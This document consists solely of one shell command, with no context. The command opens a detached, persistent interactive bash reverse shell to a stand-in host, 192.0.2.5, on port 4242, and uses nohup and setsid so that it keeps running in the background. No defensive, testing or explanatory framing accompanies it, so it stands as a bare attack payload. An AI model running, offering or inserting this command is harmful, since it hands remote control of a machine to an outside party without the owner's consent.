nohup setsid bash -c 'bash -i >& /dev/tcp/192.0.2.5/4242 0>&1' &
